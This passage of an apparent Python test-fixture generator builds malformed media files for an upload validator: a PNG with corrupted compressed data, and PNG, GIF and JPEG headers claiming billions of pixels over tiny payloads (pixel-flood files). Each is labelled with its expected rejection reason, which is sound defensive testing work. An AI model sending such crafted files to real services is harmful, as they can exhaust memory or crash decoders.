    raw = b"".join(b"\x00" + bytes((x * 4 + y) % 256 for x in range(64 * 3)) for y in range(64))
    good = zlib.compress(raw, 9)
    bad = bytearray(good)
    for i in range(6, len(bad) - 4, 7):         # keep the zlib header, wreck the deflate data
        bad[i] ^= 0x5A
    ihdr = struct.pack(">IIBBBBB", 64, 64, 8, 2, 0, 0, 0)
    dmg = PNG_SIG + png_chunk(b"IHDR", ihdr) + png_chunk(b"IDAT", bytes(bad)) + png_chunk(b"IEND", b"")
    add("png-damaged-idat", write_bytes(H + "damaged_idat.png", dmg),
        "64x64 RGB PNG: valid signature, IHDR and CRCs, but the IDAT deflate stream is garbage",
        rejected("corrupt", "image/png"), declared="image/png", name="screenshot.png")

    ihdr = struct.pack(">IIBBBBB", 30000, 30000, 8, 2, 0, 0, 0)
    huge = (PNG_SIG + png_chunk(b"IHDR", ihdr) + png_chunk(b"IDAT", zlib.compress(b"\x00" * 64, 9))
            + png_chunk(b"IEND", b""))
    add("png-huge-ihdr", write_bytes(H + "huge_30000x30000.png", huge),
        "PNG whose IHDR says 30000x30000 RGB (900 M px), valid CRCs, tiny IDAT",
        rejected("too_many_pixels", "image/png"), declared="image/png", name="photo.png")

    gif = (b"GIF89a" + struct.pack("<HHBBB", 65535, 65535, 0x80, 0, 0) +   # GCT flag, 2 entries
           b"\x00\x00\x00\xff\xff\xff" +
           b"\x2c" + struct.pack("<HHHHB", 0, 0, 1, 1, 0) +               # 1x1 image at 0,0
           b"\x02\x02\x44\x01\x00" + b"\x3b")                              # LZW min 2, data, trailer
    add("gif-huge-screen", write_bytes(H + "huge_screen_65535.gif", gif),
        "GIF89a whose logical screen is 65535x65535 (4.29 G px); one well-formed 1x1 frame",
        rejected("too_many_pixels", "image/gif"), declared="image/gif", name="sticker.gif")

    # Minimal baseline greyscale JPEG whose SOF0 claims 65500x65500.
    dqt = b"\xff\xdb" + struct.pack(">H", 67) + b"\x00" + bytes([1] * 64)
    sof = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, 65500, 65500, 1) + b"\x01\x11\x00"
    # DC table: one code of length 1 -> category 0; AC table: one code of length 1 -> EOB
    dht = (b"\xff\xc4" + struct.pack(">H", 2 + 17 + 1 + 17 + 1) +
           b"\x00" + bytes([1] + [0] * 15) + b"\x00" +
           b"\x10" + bytes([1] + [0] * 15) + b"\x00")
    sos = b"\xff\xda" + struct.pack(">HB", 8, 1) + b"\x01\x00" + b"\x00\x3f\x00"
    jpg = b"\xff\xd8" + dqt + sof + dht + sos + b"\x00" * 16 + b"\xff\xd9"
    add("jpeg-huge-sof", write_bytes(H + "huge_sof_65500.jpg", jpg),
        "minimal greyscale baseline JPEG (DQT, SOF0, DHT, SOS) whose SOF0 claims 65500x65500 (4.29 G px)",
        rejected("too_many_pixels", "image/jpeg"), declared="image/jpeg", name="IMG-20261125-WA0007.jpg")

    ogg = b"OggS" + bytes(rnd.getrandbits(8) for _ in range(2044))
    det = "audio/ogg"
    with open(out(H + "garbage.ogg"), "wb") as f:
        f.write(ogg)
    det = libmagic(H + "garbage.ogg")
    add("ogg-garbage", H + "garbage.ogg",
        f"'OggS' + seeded random bytes from a visitor; libmagic says {det}",
        rejected("corrupt" if det == "audio/ogg" else "unsupported_type"),
        declared="audio/ogg; codecs=opus", name="PTT-20261125-WA0003.opus")
    shutil.rmtree(tmp)


# --------------------------------------------------------------------------- main

def main():
    for sub in ("images", "documents", "audio", "hostile"):
        d = os.path.join(HERE, sub)
        if os.path.isdir(d):
            shutil.rmtree(d)
        os.makedirs(d)
    make_images()
    make_documents()
    make_audio()
    make_hostile()
    ids = [f["id"] for f in fixtures]
    assert len(ids) == len(set(ids)), "duplicate ids"
    with open(os.path.join(HERE, "fixtures.json"), "w") as f:
        json.dump({"version": 1, "fixtures": fixtures}, f, indent=2, ensure_ascii=False)
        f.write("\n")
    print(f"wrote {len(fixtures)} fixtures")


if __name__ == "__main__":
    main()
